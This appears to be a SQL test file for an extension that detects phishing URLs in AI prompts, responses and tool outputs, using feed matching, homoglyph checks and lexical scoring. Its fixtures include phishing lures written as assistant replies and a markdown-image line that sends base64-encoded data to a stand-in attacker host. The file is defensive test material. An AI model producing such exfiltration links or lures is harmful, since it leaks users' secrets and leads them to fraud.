-- phishing: URLs in prompts, responses and tool outputs, matched against
-- threat lists (with normalisation) or scored lexically, and typed by the
-- direction they travelled in.
SET client_min_messages = warning;
CREATE EXTENSION IF NOT EXISTS aiguard;
RESET client_min_messages;
DELETE FROM aiguard.alerts;

-- the list: URLs and domains as feeds write them; stored normalised
SELECT aiguard_load_indicators('url', 'phishing', 'test-feed', $$
# a phishing feed
https://secure-login.example-bank.test/verify.php
secure-login.example-bank.com/verify.php
HTTP://Paypa1-Support.TEST:80/account/update?id=7#top
not a url
$$);
SELECT aiguard_load_indicators('domain', 'phishing', 'test-domains', $$
evil-phish.test
xn--pypal-4ve.test.
bücher-login.test
$$);
SELECT kind, value FROM aiguard.indicators WHERE kind IN ('url', 'domain') ORDER BY kind, value COLLATE "C";

-- a listed URL in a user prompt, however it is written
SELECT alert_type, rule_id, confidence, details->>'url' AS url, details->'indicator'->>'source' AS source
  FROM aiguard_scan('My bank sent me https://secure-login.example-bank.test/verify.php, is it legit?')
 WHERE alert_type LIKE 'phishing%';
SELECT details->>'url' AS url
  FROM aiguard_scan('see (secure-login.example-bank.com/verify.php).') WHERE alert_type LIKE 'phishing%';
SELECT details->>'url' AS url
  FROM aiguard_scan('[click here](HTTPS://Secure-Login.Example-Bank.TEST:443/verify.php#x)') WHERE alert_type LIKE 'phishing%';
SELECT details->>'url' AS url, details->'indicator'->>'value' AS matched
  FROM aiguard_scan('<a href="https://paypa1-support.test/account/update?id=7&amp;x=1">update</a> <a href=https://paypa1-support.test/account/update?id=7>again</a>') WHERE alert_type LIKE 'phishing%';
-- URLs in an answer about URLs or local services are not phishing: loopback
-- and private hosts, names reserved for documentation, mail archives, CDNs
SELECT count(*) AS phishing_findings
  FROM aiguard_scan('Parse it with urlsplit("https://user:pass@sub.example.com:8080/p?q=1"), '
                    'then start the server and open http://127.0.0.1:3000/ or http://192.168.1.20/admin/login. '
                    'The thread is at https://lore.kernel.org/git/20150811100527.GW14466@dinwoodie.org/ and the '
                    'script comes from https://cdnjs.cloudflare.com/ajax/libs/underscore.js/1.13.4/underscore-min.js',
                    'response')
 WHERE alert_type LIKE 'phishing%';
-- a listed domain matches its subdomains too, and IDN hosts in either form
SELECT details->>'host' AS host, details->'indicator'->>'value' AS matched
  FROM aiguard_scan('log in at www.accounts.evil-phish.test/login now') WHERE alert_type LIKE 'phishing%';
SELECT details->>'host' AS host, details->'indicator'->>'value' AS matched
  FROM aiguard_scan('https://pаypal.test/signin (with a Cyrillic a)') WHERE alert_type LIKE 'phishing%';
SELECT details->>'host' AS host, details->'indicator'->>'value' AS matched
  FROM aiguard_scan('https://xn--bcher-login-thb.test/ and https://bücher-login.test/') WHERE alert_type LIKE 'phishing%';
-- near misses: the brand's own site, a sibling domain, a mention without a URL
SELECT count(*) AS phishing_findings
  FROM aiguard_scan('Use https://www.paypal.com/signin, not-evil-phish.test, or read about evil-phish in the news.')
 WHERE alert_type LIKE 'phishing%';

-- no list entry: the lexical score, with lower confidence
SELECT alert_type, rule_id, confidence < 0.8 AS lower_confidence, details->'reasons' IS NOT NULL AS has_reasons
  FROM aiguard_scan('Verify now: http://paypal.com.account-verify-secure.xyz/login/update.php', 'response')
 WHERE alert_type LIKE 'phishing%';

-- the learned URL model is one of the lexical signs: a kit-like host no
-- hand-set sign flags, and the same words on an ordinary site's pages
SELECT alert_type, round(confidence::numeric, 2) AS confidence, details->'reasons' AS reasons
  FROM aiguard_scan('Confirme seus dados em https://seguranca-app-conta.com/acesso/ hoje.', 'response')
 WHERE alert_type LIKE 'phishing%';
SELECT count(*) AS phishing_findings
  FROM aiguard_scan('Docs: https://www.rust-lang.org/learn and https://pypi.org/project/requests/ (sign in at https://www.some-shop.com/login.php).', 'response')
 WHERE alert_type LIKE 'phishing%';

-- directions, in one conversation stored one message per row
CREATE TABLE phish_messages (id serial PRIMARY KEY, session text, role text, content text);
SELECT aiguard_protect('phish_messages', content => 'content', role_column => 'role', conversation => 'session');
INSERT INTO phish_messages (session, role, content) VALUES
	('s1', 'user', 'Is https://secure-login.example-bank.test/verify.php safe?'),
	('s1', 'assistant', 'No: https://secure-login.example-bank.test/verify.php is a known phishing page.'),
	('s1', 'assistant', 'Please re-enter your card at http://evil-phish.test/pay to continue.'),
	('s1', 'tool', '{"results": ["https://paypa1-support.test/account/update?id=7"]}');
SELECT m.role, a.alert_type, a.role AS alert_role, a.details->>'origin' AS origin
  FROM aiguard.alerts a JOIN phish_messages m ON (a.source_key->>'id')::int = m.id
 WHERE a.alert_type LIKE 'phishing%' ORDER BY m.id;

-- one exchange per row, no conversation: a response's URL has no known origin
CREATE TABLE phish_exchanges (id serial PRIMARY KEY, prompt text, response text);
SELECT aiguard_protect('phish_exchanges', prompt => 'prompt', response => 'response');
INSERT INTO phish_exchanges (prompt, response) VALUES
	('Where do I pay?', 'Pay here: http://evil-phish.test/pay');
SELECT alert_type, details->>'origin' AS origin FROM aiguard.alerts
 WHERE source_table = 'public.phish_exchanges' AND alert_type LIKE 'phishing%';

-- a markdown image carrying data out is reported on the message's alert
DELETE FROM aiguard.alerts;
INSERT INTO phish_exchanges (prompt, response) VALUES
	('Summarise my notes', 'Done! ![status](https://collector.attacker.test/p.png?d=SGVsbG8gd29ybGQsIG15IHBhc3N3b3JkIGlzIGh1bnRlcjI) Also visit http://evil-phish.test/');
SELECT alert_type, jsonb_path_query_first(details, '$.image_exfiltration[0].host') AS image_host
  FROM aiguard.alerts WHERE source_table = 'public.phish_exchanges';

-- the application role cannot probe the lists through aiguard_scan
CREATE ROLE phish_app;
SET ROLE phish_app;
SELECT rule_id FROM aiguard_scan('https://secure-login.example-bank.test/verify.php') WHERE alert_type LIKE 'phishing%';
RESET ROLE;
DROP ROLE phish_app;

DROP TABLE phish_messages, phish_exchanges;
DELETE FROM aiguard.indicators WHERE source IN ('test-feed', 'test-domains');
